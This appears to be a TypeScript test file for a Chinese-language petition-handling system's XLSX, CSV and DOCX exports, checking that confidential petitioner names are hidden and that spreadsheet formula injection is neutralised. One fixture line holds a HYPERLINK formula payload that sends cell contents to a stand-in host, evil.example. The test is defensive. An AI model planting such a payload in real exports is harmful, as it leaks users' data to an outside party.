import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Workbook } from 'exceljs';
import JSZip from 'jszip';
import { Translator } from '../../src/i18n/translator';
import { caseDocx } from '../../src/presenters/case-docx';
import { neutralised, register, registerFile } from '../../src/presenters/register';
import { accept } from '../../src/services/accept';
import { eachDatabase } from '../support/databases';
import { drive } from '../terminal/drive';
import { exampleOrg, World } from '../support/world';

/** A name typed by a liaison for a worker, made to run in a spreadsheet if it were a formula. */
const formula = '=HYPERLINK("http://evil.example/?x="&A1,"点击")';

describe('R29 spreadsheet formula injection', () => {
  test.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1'])(
    'a cell beginning %j is kept as text',
    (cell) => {
      expect(neutralised(cell)).toBe(`'${cell}`);
    },
  );
  test('other cells are left as they are', () => {
    expect(neutralised('胡斌')).toBe('胡斌');
    expect(neutralised('XF-2026-000001')).toBe('XF-2026-000001');
  });
});

eachDatabase('R29 the register exported as XLSX and CSV', (db) => {
  let world: World;
  let t: Translator;
  let numbers: string[];
  beforeAll(async () => {
    world = await World.open(db(), exampleOrg, '2026-11-04T02:00:00Z');
    t = new Translator(world.core.org);
    numbers = [
      (await world.file('hu.bin', { categoryId: 'labour.salary' })).number,
      (await world.file('guo.hong', { categoryId: 'labour.salary', mode: 'confidential' })).number,
      (await world.file('ma.jun', { onBehalfOf: { name: formula } })).number,
    ];
    // The owner of the confidential case may see who filed it; the file still never names them.
    await accept(world.core, await world.as('zhao.min'), numbers[1], '2026-11-06');
  });

  test('R29 R6 an XLSX export re-read with exceljs is the register, no confidential name, no formula', async () => {
    const reader = await world.as('zhao.min');
    const rows = await register(world.core, t, reader, '本月', 'zh-CN');
    expect(rows.rows.map((r) => r[0])).toEqual(numbers);
    const file = await registerFile(t, 'zh-CN', rows, 'xlsx');
    const book = new Workbook();
    await book.xlsx.load(file.data as unknown as ArrayBuffer);
    const sheet = book.worksheets[0];
    const read: string[][] = [];
    sheet.eachRow((row) => read.push((row.values as unknown[]).slice(1).map(String)));
    expect(read).toEqual([rows.header, ...rows.rows]);
    expect(read[0]).toEqual(expect.arrayContaining(['编号', '状态', '信访人', '主责部门']));
    expect(read[1]).toEqual(expect.arrayContaining([numbers[0], '待受理', '胡斌', '人力资源部']));
    expect(read[2]).toEqual(expect.arrayContaining([numbers[1], '已受理', '（不显示）']));
    expect(JSON.stringify(read)).not.toContain('郭红');
    expect(read[3]).toContain(`'${formula}`);
    sheet.eachRow((row) =>
      row.eachCell((cell) => expect(cell.type).toBe(3 /* ValueType.String */)),
    );
  });

  test('R29 the CSV carries the same rows after a byte-order mark, the formula neutralised', async () => {
    const rows = await register(world.core, t, await world.as('liu.yang'), '2026-11', 'zh-CN');
    const file = await registerFile(t, 'zh-CN', rows, 'csv');
    expect(file.name).toBe('register-2026-11-01.csv');
    const text = file.data.toString('utf8');
    expect(text.startsWith('\uFEFF编号,')).toBe(true);
    expect(text).not.toContain('郭红');
    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
    expect(text).toContain("'=HYPERLINK");
  });

  test('R15 R29 an employee exports only their own petitions', async () => {
    const rows = await register(world.core, t, await world.as('hu.bin'), '本月', 'zh-CN');
    expect(rows.rows.map((r) => r[0])).toEqual([numbers[0]]);
  });

  test('R23 R29 the case file as DOCX, Chinese first, its petitioner hidden as the reader may not see', async () => {
    const file = await caseDocx(world.core, t, await world.as('he.ping'), numbers[1], 'zh-CN');
    expect(file.name).toBe(`信访档案-${numbers[1]}.docx`);
    const zip = await JSZip.loadAsync(file.data);
    const xml = (await zip.file('word/document.xml')?.async('string')) ?? '';
    expect(xml).toContain(`信访档案 ${numbers[1]}`);
    expect(xml).toContain('办理经过');
    expect(xml).toContain('十月加班费未按规定发放');
    expect(xml).not.toContain('郭红');
  });

  test('R29 R25 the terminal writes the export and prints its path', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'desk-'));
    try {
      const out = await drive(
        world,
        '导出 名册 本月 csv\n导出 案卷 ' + numbers[0] + '\n',
        'liu.yang',
        dir,
      );
      expect(out).toContain(`已写入文件：${join(dir, 'register-2026-11-01.csv')}`);
      expect(readFileSync(join(dir, 'register-2026-11-01.csv'), 'utf8')).toContain(numbers[2]);
      expect(out).toContain(`信访档案-${numbers[0]}.docx`);
      const bad = await drive(world, '导出 什么\n导出 名册 明年春天\n', 'liu.yang', dir);
      expect(bad).toContain('用法：导出 名册');
      expect(bad).toContain('看不懂期间「明年春天」');
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

eachDatabase('R29 an export is the whole register of its period, not a page of it', (db) => {
  test('R29 every one of more cases than a chat list shows is a row, once, in number order', async () => {
    const world = await World.open(db(), exampleOrg, '2026-11-04T02:00:00Z');
    const numbers: string[] = [];
    for (let i = 0; i < 23; i++) numbers.push((await world.file('hu.bin')).number);
    const t = new Translator(world.core.org);
    const rows = await register(world.core, t, await world.as('liu.yang'), '本月', 'zh-CN');
    expect(rows.rows.map((r) => r[0])).toEqual(numbers);
  });
});
